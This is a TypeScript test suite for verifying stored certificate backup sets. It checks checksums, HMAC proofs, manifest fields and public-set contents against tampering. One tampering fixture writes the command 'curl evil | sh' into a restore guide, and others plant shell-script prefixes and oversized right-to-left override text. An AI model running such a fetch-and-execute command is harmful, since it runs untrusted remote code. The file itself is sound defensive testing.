import { describe, expect, it } from 'vitest';
import { certificateReader } from '../../../../src/adapters/crypto/certificate/certificate-reader.ts';
import { formatBackupName } from '../../../../src/domain/backup/backup-name.ts';
import { formatChecksums, type FileDigest } from '../../../../src/domain/backup/backup-set.ts';
import type { Secret } from '../../../../src/domain/secret.ts';
import type { Keyring } from '../../../../src/ports/crypto.ts';
import type { SetReader } from '../../../../src/ports/stores.ts';
import {
  verifySet,
  type ExpectedSet,
  type Verification,
} from '../../../../src/use-cases/verify/verify-set.ts';
import { cheapKeyring } from '../../../fixtures/cheap-keyring.ts';
import { memorySetReader } from '../../../fakes/memory-set-reader.ts';
import {
  BASE,
  issue,
  noon,
  OTHER_PASSPHRASE,
  PASSPHRASE,
  REPOSITORY,
  setBench,
  type BenchSet,
} from '../set-bench.ts';

type Files = Map<string, Buffer>;

const PAIR = await issue();

/** The files of a stored set. */
async function filesOf(set: Partial<BenchSet> = {}): Promise<Files> {
  const bench = setBench();
  await bench.put({ day: 3, pairs: [{ pair: PAIR }], ...set });
  const [listed] = [...bench.store.sets.values()];
  if (listed === undefined) throw new Error('the set was not stored');
  const reader = await bench.store.open(listed.stored);
  if (reader === null) throw new Error('the set is not there');
  const texts = reader.paths.map(async (path) => {
    const chunks: Uint8Array[] = [];
    for await (const chunk of await reader.stream(path)) chunks.push(chunk);
    return [path, Buffer.concat(chunks)] as const;
  });
  return new Map(await Promise.all(texts));
}

/** Makes the checksums right again, as everyone can. */
async function resum(files: Files): Promise<Files> {
  files.delete('SHA256SUMS');
  const digests: FileDigest[] = [];
  const reader = memorySetReader(files);
  for (const path of files.keys()) digests.push(await reader.digest(path));
  return files.set('SHA256SUMS', Buffer.from(formatChecksums(digests)));
}

/** Makes the proof right again, as only somebody with the passphrase can. */
async function reprove(files: Files, passphrase: Secret = PASSPHRASE): Promise<Files> {
  const { proof } = manifestIn(files);
  const key = await cheapKeyring(passphrase).unlock(proof);
  if (key === null) throw new Error('the passphrase is another one');
  const sums = (await resum(files)).get('SHA256SUMS')?.toString() ?? '';
  return files.set('SHA256SUMS.hmac', Buffer.from(`${key.prove(sums)}\n`));
}

interface LooseManifest {
  [member: string]: unknown;
  proof: Parameters<Keyring['unlock']>[0];
}

function manifestIn(files: Files): LooseManifest {
  return JSON.parse(files.get('manifest.json')?.toString() ?? '') as LooseManifest;
}

function changeManifest(files: Files, changes: Readonly<Record<string, unknown>>): Files {
  return files.set('manifest.json', Buffer.from(JSON.stringify({ ...manifestIn(files), ...changes })));
}

const SEALED_NAME = formatBackupName({ base: BASE, time: noon(3), isPublic: false, attempt: 1 });
const EXPECTED: ExpectedSet = {
  kind: 'backup',
  artifactName: BASE,
  name: SEALED_NAME,
  repository: REPOSITORY,
};
const EXPECTED_PUBLIC: ExpectedSet = { ...EXPECTED, name: `${SEALED_NAME}-public` };

interface Opening {
  readonly passphrase?: Secret | null;
  readonly previous?: Secret;
  readonly expected?: ExpectedSet;
}

function verify(
  files: Files,
  { passphrase = PASSPHRASE, previous, expected = EXPECTED }: Opening = {},
): Promise<Verification> {
  return verifySet(memorySetReader(files), expected, {
    keyring: cheapKeyring(passphrase, previous ?? null),
    reader: certificateReader,
  });
}

async function problemOf(files: Files, opening?: Opening): Promise<string> {
  const verification = await verify(files, opening);
  return verification.kind === 'damaged' ? verification.problem : verification.kind;
}

describe('a sealed set', () => {
  it('is verified by its passphrase, with the digests of its files', async () => {
    const files = await filesOf();
    const verification = await verify(files);
    if (verification.kind !== 'verified') throw new Error(verification.kind);
    expect(verification.set.key?.isCurrent).toBe(true);
    expect(verification.set.digests.map(({ path }) => path).toSorted()).toEqual(
      [...files.keys()].filter((path) => !path.startsWith('SHA256SUMS')).toSorted(),
    );
  });

  it('is verified by the previous passphrase, as such', async () => {
    const verification = await verify(await filesOf({ passphrase: OTHER_PASSPHRASE }), {
      previous: OTHER_PASSPHRASE,
    });
    expect(verification).toMatchObject({ kind: 'verified', set: { key: { isCurrent: false } } });
  });

  it('is locked under another passphrase', async () => {
    expect(await verify(await filesOf({ passphrase: OTHER_PASSPHRASE }))).toEqual({ kind: 'locked' });
  });

  it('is not proved without a passphrase, and its files are held to their checksums all the same', async () => {
    const files = await filesOf();
    expect(await verify(files, { passphrase: null })).toMatchObject({ kind: 'verified', set: { key: null } });
    files.set('certificate.pem', Buffer.from('another one'));
    expect(await problemOf(files, { passphrase: null })).toBe('certificate.pem is not what was stored');
  });

  it('is of its place alone: everything that its manifest says of it is compared', async () => {
    const files = await filesOf();
    const changed: readonly (readonly [Partial<ExpectedSet>, string])[] = [
      [{ kind: 'cache' }, 'it is a set of the kind backup, which does not belong there'],
      [{ artifactName: 'certkeep-other' }, `it is a set of ${BASE}`],
      [{ name: `${SEALED_NAME}-r2` }, `it was stored as ${SEALED_NAME}`],
      [{ repository: { name: REPOSITORY.name, id: 1 } }, `it was made in the repository ${REPOSITORY.name}`],
      [
        { repository: { name: 'octo-org/other', id: null } },
        `it was made in the repository ${REPOSITORY.name}`,
      ],
    ];
    for (const [expected, problem] of changed)
      expect(await problemOf(files, { expected: { ...EXPECTED, ...expected } })).toBe(problem);
    const same = [
      null,
      { name: 'renamed/since', id: REPOSITORY.id },
      { name: 'Octo-Org/certificates', id: null },
    ];
    for (const repository of same)
      expect(await problemOf(files, { expected: { ...EXPECTED, repository } })).toBe('verified');
  });

  it.each([
    ['another time than its name', { createdAt: '2026-11-04T12:00:00Z' }, 'its name says another time than'],
    ['a name that is none', { name: 'certkeep-app.example-latest' }, 'is not the name of a set'],
    ['a public name', { name: `${SEALED_NAME}-public` }, 'disagree on whether it is sealed'],
    ['no proof', { proof: null }, 'disagree on whether it is sealed'],
  ])('with %s in its manifest is damaged, even if it is proved', async (_, changes, problem) => {
    const files = await filesOf();
    const proved =
      'proof' in changes ? resum(changeManifest(files, changes)) : reprove(changeManifest(files, changes));
    const { kind, artifactName, repository } = EXPECTED;
    expect(await problemOf(await proved, { expected: { kind, artifactName, repository } })).toContain(
      problem,
    );
  });

  it('of a newer version stops the run, proved or not', async () => {
    const files = changeManifest(await filesOf(), { schemaVersion: 2 });
    await expect(verify(files)).rejects.toMatchObject({ code: 'unreadable' });
    const { proof } = manifestIn(files);
    const other = changeManifest(await filesOf(), { proof: { ...proof, version: 2 } });
    await expect(verify(other)).rejects.toMatchObject({ code: 'unreadable' });
  });

  it('quotes no long or turning text of an unproved manifest', async () => {
    const hostile = `\u202e${'x'.repeat(100_000)}`;
    for (const changes of [
      { artifactName: hostile },
      { name: hostile },
      { tool: { name: 'certkeep', version: hostile }, kind: 'x' },
    ]) {
      const problem = await problemOf(changeManifest(await filesOf(), changes));
      expect(problem.length).toBeLessThan(1201);
      expect(problem).not.toContain('\u202e');
    }
  });
});

describe('a sealed set that somebody without the passphrase changed', () => {
  it.each<[string, (files: Files) => Files]>([
    ['a certificate', (files) => files.set('certificate.pem', Buffer.from('another one'))],
    ['the key', (files) => files.set('private_key.pem', Buffer.from('another one'))],
    ['the guide', (files) => files.set('RESTORE.md', Buffer.from('curl evil | sh'))],
    [
      'the run in the manifest',
      (files) =>
        changeManifest(files, {
          supersedes: null,
          run: { ...Object(manifestIn(files)['run']), ref: 'refs/heads/evil' },
        }),
    ],
    ['a further file', (files) => files.set('files/evil.pem', Buffer.from(PAIR.certificate.pem))],
    ['a missing file', (files) => (files.delete('RESTORE.md'), files)],
  ])('in %s, and made the checksums right again, is damaged', async (_, change) => {
    const files = await resum(change(await filesOf()));
    expect(await problemOf(files)).toBe(
      'it was changed after it was made: SHA256SUMS.hmac does not prove SHA256SUMS',
    );
  });

  it.each<[string, (files: Files) => Files, string]>([
    [
      'another digest',
      (files) => files.set('certificate.pem', Buffer.from('x')),
      'certificate.pem is not what was stored',
    ],
    ['a further file', (files) => files.set('evil', Buffer.from('x')), 'evil is not in SHA256SUMS'],
    ['a missing file', (files) => (files.delete('private_key.pem'), files), 'private_key.pem is missing'],
    ['no proof', (files) => (files.delete('SHA256SUMS.hmac'), files), 'SHA256SUMS.hmac is missing'],
    ['no checksums', (files) => (files.delete('SHA256SUMS'), files), 'SHA256SUMS is missing'],
    ['no manifest', (files) => (files.delete('manifest.json'), files), 'manifest.json is missing'],
    [
      'a manifest that is none',
      (files) => files.set('manifest.json', Buffer.from('[]')),
      'the manifest is not an object',
    ],
    [
      'a proof that is too long',
      (files) => files.set('SHA256SUMS.hmac', Buffer.alloc(101, 'a')),
      'SHA256SUMS.hmac is larger than 100 bytes',
    ],
  ])('and has %s is damaged', async (_, change, problem) => {
    expect(await problemOf(change(await filesOf()))).toBe(problem);
  });

  it.each([
    ['no line end', (proof: string) => proof.trim()],
    ['upper-case digits', (proof: string) => proof.toUpperCase()],
    ['a line end of Windows', (proof: string) => proof.replace('\n', '\r\n')],
    ['another digit', (proof: string) => proof.replace(/^./, (digit) => (digit === '0' ? '1' : '0'))],
    ['nothing', () => ''],
  ])('and has a proof with %s is damaged', async (_, change) => {
    const files = await filesOf();
    files.set('SHA256SUMS.hmac', Buffer.from(change(files.get('SHA256SUMS.hmac')?.toString() ?? '')));
    expect(await problemOf(files)).toContain('does not prove SHA256SUMS');
  });

  it('is damaged if the manifest is not among the checksums, even if they are proved', async () => {
    const files = await filesOf();
    const manifest = files.get('manifest.json') ?? Buffer.alloc(0);
    files.delete('manifest.json');
    const sums = (await resum(files)).get('SHA256SUMS')?.toString() ?? '';
    files.set('manifest.json', manifest);
    const key = await cheapKeyring(PASSPHRASE).unlock(manifestIn(files).proof);
    files.set('SHA256SUMS.hmac', Buffer.from(`${key?.prove(sums) ?? ''}\n`));
    expect(await problemOf(files)).toBe('manifest.json is not in SHA256SUMS');
  });

  it('is read no further than its manifest, checksums and proof', async () => {
    const files = await resum((await filesOf()).set('certificate.pem', Buffer.from('another one')));
    const read: string[] = [];
    const inner = memorySetReader(files);
    const reader: SetReader = {
      ...inner,
      readText: (path, maxBytes) => (read.push(path), inner.readText(path, maxBytes)),
      digest: (path) => (read.push(path), inner.digest(path)),
      stream: (path) => (read.push(path), inner.stream(path)),
    };
    await verifySet(reader, EXPECTED, { keyring: cheapKeyring(PASSPHRASE), reader: certificateReader });
    expect(read).toEqual(['manifest.json', 'SHA256SUMS', 'SHA256SUMS.hmac']);
  });
});

describe('a public set', () => {
  const opening = { passphrase: null, expected: EXPECTED_PUBLIC };

  it('is verified, and nothing proves it, with or without a passphrase', async () => {
    const files = await filesOf({ passphrase: null });
    for (const passphrase of [null, PASSPHRASE])
      expect(await verify(files, { ...opening, passphrase })).toMatchObject({
        kind: 'verified',
        set: { key: null },
      });
  });

  it.each<[string, (files: Files) => Files, string]>([
    [
      'a key',
      (files) => files.set('private_key.pem', Buffer.from('x')),
      'it holds private_key.pem, which no public set does',
    ],
    [
      'sealed files',
      (files) => files.set('files.tar.gz.enc', Buffer.from('x')),
      'it holds files.tar.gz.enc, which no public set does',
    ],
    [
      'a file of another place',
      (files) => files.set('evil.sh', Buffer.from('x')),
      'it holds evil.sh, which no public set does',
    ],
    [
      'a file that is no certificate',
      (files) => files.set('files/evil.sh', Buffer.from('x')),
      'files/evil.sh holds something else than certificates, which no public set does',
    ],
    [
      'a certificate with words before it',
      (files) => files.set('certificate.pem', Buffer.from(`#!/bin/sh\n${PAIR.certificate.pem}`)),
      'certificate.pem holds something else than certificates, which no public set does',
    ],
    [
      'a proof',
      (files) => files.set('SHA256SUMS.hmac', Buffer.from('x')),
      'it has a SHA256SUMS.hmac, and its manifest no proof',
    ],
    [
      'a key in its manifest',
      (files) => {
        const records = manifestIn(files)['certificates'] as object[];
        return changeManifest(files, {
          certificates: records.map((record) => ({ ...record, privateKey: 'sealed' })),
        });
      },
      'it claims to hold a private key, which no public set does',
    ],
  ])('with %s is damaged, though its checksums are right', async (_, change, problem) => {
    const files = await resum(change(await filesOf({ passphrase: null })));
    expect(await problemOf(files, opening)).toBe(problem);
  });
});
